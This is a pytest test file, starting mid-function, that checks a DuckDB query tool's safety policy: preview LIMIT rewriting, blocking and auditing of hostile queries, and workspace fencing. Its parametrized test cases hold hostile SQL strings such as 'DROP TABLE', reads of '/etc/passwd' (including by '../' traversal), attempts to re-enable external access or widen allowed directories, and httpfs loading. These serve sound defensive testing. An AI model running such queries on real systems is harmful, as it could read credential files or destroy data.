    check_query(verdict.sql, allowed_tables=ALLOWED)


def test_tables_are_matched_case_insensitively_and_ctes_are_not_tables() -> None:
    check_query("SELECT * FROM ORDERS", allowed_tables=ALLOWED)
    check_query("WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets", allowed_tables=ALLOWED)


# ---------------------------------------------------------------- the LIMIT rewrite


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM orders",
        "FROM orders",
        "SELECT order_id, amount FROM orders WHERE amount > 10 ORDER BY amount DESC",
        "SELECT DISTINCT status FROM orders",
        "SELECT order_id, row_number() OVER (ORDER BY amount) FROM orders",
        "WITH t AS (SELECT * FROM orders) SELECT * FROM t",
        "SELECT o.*, c.country FROM orders o JOIN customers c USING (customer_id)",
    ],
)
def test_plain_listings_get_the_default_limit(sql: str) -> None:
    verdict = vet_preview(sql, allowed_tables=ALLOWED)
    assert verdict.decision == "rewrite"
    assert verdict.sql.upper().endswith(f"LIMIT {DEFAULT_PREVIEW_LIMIT}")
    assert any("LIMIT" in r for r in verdict.reasons)


def test_the_limit_is_configurable_and_runs(tmp_path: Path) -> None:
    verdict = vet_preview("SELECT * FROM orders", allowed_tables=ALLOWED, limit=7)
    assert verdict.sql.upper().endswith("LIMIT 7")
    db = tmp_path / "w.duckdb"
    with closing(duckdb.connect(str(db))) as con:
        con.execute("CREATE TABLE orders AS SELECT range AS order_id FROM range(50)")
    _, rows = run_readonly(db, verdict.sql, allowed_dirs=[tmp_path])
    assert len(rows) == 7


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT status, count(*) FROM orders GROUP BY status",
        "SELECT count(*) FROM orders",
        "SELECT sum(amount) AS total, avg(amount) AS mean FROM orders",
        "SELECT status, max(amount) FROM orders GROUP BY ALL",
        "SELECT date_trunc('month', order_date) AS m, sum(amount) FROM orders GROUP BY 1",
    ],
)
def test_aggregates_are_not_capped(sql: str) -> None:
    verdict = vet_preview(sql, allowed_tables=ALLOWED)
    assert verdict.decision == "allow"
    assert "LIMIT" not in verdict.sql.upper()


def test_an_explicit_limit_is_kept() -> None:
    verdict = vet_preview("SELECT * FROM orders LIMIT 5", allowed_tables=ALLOWED)
    assert verdict.decision == "allow"
    assert verdict.sql.upper().endswith("LIMIT 5")
    assert f"LIMIT {DEFAULT_PREVIEW_LIMIT}" not in verdict.sql.upper()


@pytest.mark.parametrize(
    "sql",
    ["SELECT * FROM orders UNION ALL SELECT * FROM orders", "(SELECT * FROM orders)"],
    ids=["union", "parenthesised"],
)
def test_set_operation_listings_get_the_default_limit(sql: str) -> None:
    verdict = vet_preview(sql, allowed_tables=ALLOWED)
    assert verdict.decision == "rewrite"
    assert f"LIMIT {DEFAULT_PREVIEW_LIMIT}" in verdict.sql.upper()


# ---------------------------------------------------------------- end to end: queryforge query

E2E_SAMPLE = [
    "multi-drop",
    "multi-set",
    "drop-table",
    "delete",
    "update",
    "insert-select",
    "ctas",
    "cte-delete",
    "select-into",
    "comment-fake-end",
    "comment-hides-select",
    "string-close-then-drop",
    "string-passwd-as-table",
    "case-drop",
    "unicode-nbsp-drop",
    "sys-information-schema-tables",
    "sys-sqlite-master",
    "sys-pg-shadow",
    "sys-duckdb-settings",
    "file-read-csv",
    "file-read-text",
    "file-glob",
    "net-httpfs-parquet",
    "attach",
    "install-httpfs",
    "copy-to",
    "pragma-database-list",
    "set-external-access",
    "env-getenv",
    "ident-escaped-quote-table",
    "joins-over-cap",
    "nesting-from-over-cap",
]
BY_ID = {i: (s, r) for i, s, r in CORPUS}


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bare workspace with the eval orders published as `orders` (1000 rows)."""
    root = tmp_path_factory.mktemp("safety") / "ws"
    with Workspace.init(root, bare=True) as ws:
        shutil.copy(EVAL_DATA / "orders.csv", root / "data" / "orders.csv")
        outcome = ws.ask("Load data/orders.csv into orders", consent=lambda _: True, provider="rules")
        assert outcome.status == "succeeded", outcome.error
    return root


def _orders_count(root: Path) -> int:
    with closing(duckdb.connect(str(root / ".queryforge" / "warehouse.duckdb"), read_only=True)) as con:
        row = con.execute("SELECT count(*) FROM orders").fetchone()
    assert row is not None
    return int(row[0])


def test_the_e2e_sample_is_drawn_from_the_corpus() -> None:
    assert len(E2E_SAMPLE) >= 20
    assert set(E2E_SAMPLE) <= set(BY_ID)


@pytest.mark.parametrize("case", E2E_SAMPLE)
def test_cli_query_blocks_and_audits(case: str, published: Path, qf: Callable[..., Any]) -> None:
    sql, reason = BY_ID[case]
    # `--` so that SQL starting with a dash is not read as an option.
    result = qf("query", "--workspace", str(published), "--json", "--", sql, cwd=published)
    assert result.code == 2, (result.stdout, result.stderr)
    error = json.loads(result.stdout)["error"]
    assert error["type"] == "QueryBlocked"
    assert error["exit_code"] == 2
    assert error["message"].startswith("Query blocked: ")
    assert re.search(reason, error["message"]), error["message"]
    assert error["hint"]
    with Workspace(published) as ws:
        entries = [
            e for e in ws.repo.list_audit(limit=1000, action="sql_policy") if e["details"]["sql"] == sql
        ]
    assert entries, f"no audit entry for {sql!r}"
    assert entries[0]["decision"] == "block"
    assert entries[0]["reason"] == error["message"].removeprefix("Query blocked: ")
    assert _orders_count(published) == 1000


def test_cli_query_block_is_one_error_paragraph_without_json(published: Path, qf: Callable[..., Any]) -> None:
    result = qf(
        "query", "SELECT * FROM orders; DROP TABLE orders", "--workspace", str(published), cwd=published
    )
    assert result.code == 2
    assert result.stdout.strip() == ""
    text = result.stderr.strip()
    assert text.startswith("Error: Query blocked: expected exactly one SELECT statement")
    assert "Hint:" in text
    assert "Traceback" not in text
    assert _orders_count(published) == 1000


def test_cli_query_allows_and_rewrites_with_audit(published: Path, qf: Callable[..., Any]) -> None:
    sql = "SELECT status, count(*) AS n FROM orders GROUP BY status ORDER BY status"
    result = qf("query", sql, "--workspace", str(published), "--json", cwd=published)
    assert result.code == 0, result.stderr
    rows = json.loads(result.stdout)
    assert sum(r["n"] for r in rows) == 1000
    listing = "SELECT order_id FROM orders"
    result = qf("query", listing, "--workspace", str(published), "--limit", "3", "--json", cwd=published)
    assert result.code == 0, result.stderr
    assert len(json.loads(result.stdout)) == 3
    with Workspace(published) as ws:
        entries = ws.repo.list_audit(limit=1000, action="sql_policy")
    decisions = {e["details"]["sql"]: e["decision"] for e in reversed(entries)}
    assert decisions[sql] == "allow"
    assert decisions[listing] == "rewrite"


# ---------------------------------------------------------------- defence in depth below the policy


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    """A DuckDB file with one table, inside a folder that also holds a CSV file."""
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "inside.csv").write_text("a,b\n1,x\n2,y\n")
    db = tmp_path / "warehouse.duckdb"
    with closing(duckdb.connect(str(db))) as con:
        con.execute("CREATE TABLE orders AS SELECT 1 AS order_id, 10.5 AS amount")
    return db


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/hostname')",
        "SET enable_external_access=true",
        "ATTACH '/tmp/x.db'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET lock_configuration = false",
        "SET allowed_directories = ['/']",
        "RESET allowed_directories",
        "SELECT * FROM glob('/etc/*')",
        "SELECT * FROM '/etc/passwd'",
        "COPY orders TO '{outside}'",
        "CREATE TABLE evil AS SELECT 1",
        "DROP TABLE orders",
        "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
    ],
)
def test_run_readonly_refuses_what_the_policy_would_block(warehouse: Path, sql: str) -> None:
    root = warehouse.parent / "data"
    outside = warehouse.parent / "escape.csv"
    with pytest.raises(QueryForgeError) as info:
        run_readonly(warehouse, sql.format(outside=outside), allowed_dirs=[root])
    # Refused by DuckDB's own fence, not by some unrelated error.
    assert re.search(FENCED, info.value.message), info.value.message
    assert not outside.exists()
    _, rows = run_readonly(warehouse, "SELECT count(*) FROM orders", allowed_dirs=[root])
    assert rows == [(1,)]


def test_run_readonly_cannot_escape_the_workspace_with_dot_dot(warehouse: Path) -> None:
    root = warehouse.parent
    with pytest.raises(QueryForgeError) as info:
        run_readonly(
            warehouse, f"SELECT * FROM read_csv('{root}/../../../../etc/passwd')", allowed_dirs=[root]
        )
    assert "Permission Error" in info.value.message


def test_run_readonly_still_reads_files_inside_the_workspace(warehouse: Path) -> None:
    root = warehouse.parent
    names, rows = run_readonly(
        warehouse, f"SELECT a, b FROM read_csv('{root}/data/inside.csv') ORDER BY a", allowed_dirs=[root]
    )
    assert names == ["a", "b"]
    assert rows == [(1, "x"), (2, "y")]
    _, rows = run_readonly(warehouse, "SELECT order_id, amount FROM orders", allowed_dirs=[root])
    assert rows == [(1, 10.5)]


def test_run_readonly_cannot_write_files_inside_the_workspace(warehouse: Path) -> None:
    root = warehouse.parent
    target = root / "data" / "inside.csv"
    before = target.read_text()
    with pytest.raises(QueryForgeError):
        run_readonly(warehouse, f"COPY orders TO '{target}'", allowed_dirs=[root])
    assert target.read_text() == before


def test_run_readonly_reports_a_fenced_read_as_permission_denied(warehouse: Path) -> None:
    """A refused file read is the person's doing (exit 2), not 'a bug of ours' (exit 3)."""
    with pytest.raises(PermissionDenied):
        run_readonly(warehouse, "SELECT * FROM read_csv('/etc/passwd')", allowed_dirs=[warehouse.parent])


def test_engine_session_is_fenced_to_the_workspace(tmp_path: Path) -> None:
    """The rehearsal engine too: workspace files readable, the rest of the machine not."""
    (tmp_path / "inside.csv").write_text("a\n1\n2\n")
    session = DuckDBEngine().session(tmp_path / "run", allowed_dirs=[tmp_path])
    try:
        with pytest.raises(duckdb.Error, match="Permission"):
            session.con.execute("SELECT length(content) FROM read_text('/etc/passwd')").fetchall()
        with pytest.raises(duckdb.Error):
            session.con.execute("SET enable_external_access = true")
        rows = session.con.execute(f"SELECT sum(a) FROM read_csv('{tmp_path / 'inside.csv'}')").fetchall()
        assert rows == [(3,)]
    finally:
        session.close()
